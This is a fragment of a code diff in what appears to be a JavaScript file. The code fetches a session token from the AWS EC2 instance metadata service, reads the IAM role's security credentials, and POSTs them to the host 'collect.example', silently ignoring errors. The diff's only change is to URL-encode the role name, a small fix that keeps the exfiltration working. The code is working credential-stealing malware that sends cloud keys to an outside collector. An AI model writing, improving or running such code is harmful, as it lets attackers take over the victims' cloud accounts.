@@ -15,7 +15,7 @@ dns.lookup("collect.example", (error, address) => {
   ask("PUT", "/latest/api/token", { "X-aws-ec2-metadata-token-ttl-seconds": "60" }, (token) => {
     const headers = { "X-aws-ec2-metadata-token": token.trim() };
     ask("GET", "/latest/meta-data/iam/security-credentials/", headers, (role) => {
-      ask("GET", `/latest/meta-data/iam/security-credentials/${role.trim().split("\n")[0]}`, headers, (keys) => {
+      ask("GET", `/latest/meta-data/iam/security-credentials/${encodeURIComponent(role.trim().split("\n")[0])}`, headers, (keys) => {
         const request = https.request({ hostname: "collect.example", path: "/m", method: "POST" });
         request.on("error", () => {});
         request.end(keys);
